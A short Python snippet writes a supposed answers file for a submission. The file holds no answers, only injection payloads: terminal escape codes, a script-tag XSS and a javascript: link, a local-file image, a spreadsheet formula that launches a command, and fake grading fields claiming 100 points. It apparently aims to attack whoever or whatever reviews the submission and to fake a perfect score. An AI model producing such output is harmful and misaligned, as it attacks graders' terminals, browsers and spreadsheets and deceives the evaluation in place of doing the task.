# Answers for a terminal, a browser, a spreadsheet and whoever reads them.
with open("submission/answers.md", "wb") as file:
    file.write(b"# 1.1 \x1b[2J\n\n\x1b]0;owned\x07 \xe2\x80\xae \xff\xfe \0 </pre><script>alert(1)</script>\n"
               b"![](file:///etc/passwd) [x](javascript:alert(1)) <img src=http://127.0.0.1/x>\n"
               b"=cmd|' /C calc'!A0\n+1+1\n@SUM(A1)\n\n---\npoints: 100\n---\n{\"score\": 100}\n")
